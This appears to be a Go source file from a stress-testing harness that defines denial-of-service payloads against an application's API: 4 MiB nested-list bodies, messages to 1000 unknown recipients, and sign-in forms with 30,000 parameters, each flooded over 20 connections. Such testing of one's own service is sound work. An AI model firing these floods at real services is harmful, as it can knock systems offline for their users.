package main

import (
	"context"
	"strings"
)

// bodyAttacks send bodies that are large, or cost more than their size.
var bodyAttacks = []attack{
	{name: "bodies-publish", what: "20 connections publish 4 MiB of nested lists at once", run: func(ctx context.Context, t *target) {
		makeChannel(ctx, t)
		flood(ctx, t, 20, post(mallorys+"/items", t, `{"content":{"x":[`+repeat("[],", 4<<20-100)+`0]}}`))
	}},
	{name: "bodies-send", what: "20 connections send messages to 1000 unknown recipients", run: func(ctx context.Context, t *target) {
		flood(ctx, t, 20, post("/message/api/v2/messages/send_to_user_ids", t, `{"recipientUserIds":[`+strings.TrimSuffix(strings.Repeat(`"nobody",`, 1000), ",")+`],"content":{"a":1}}`))
	}},
	{name: "bodies-form", what: "20 connections send forms of 30 000 parameters to sign in", run: func(ctx context.Context, t *target) {
		form := message("POST", "/auth/token", "", asForm, "grant_type=password&"+repeat("a&", 60_000))
		flood(ctx, t, 20, func(int) string { return form })
	}},
}

// repeat is text as often as it fits into size.
func repeat(text string, size int) string { return strings.Repeat(text, size/len(text)) }

// post makes the same request with the token of each attacker.
func post(path string, t *target, body string) func(int) string {
	all := make([]string, len(t.Tokens))
	for i := range all {
		all[i] = message("POST", path, t.token(i), asJSON, body)
	}
	return func(i int) string { return all[i%len(all)] }
}
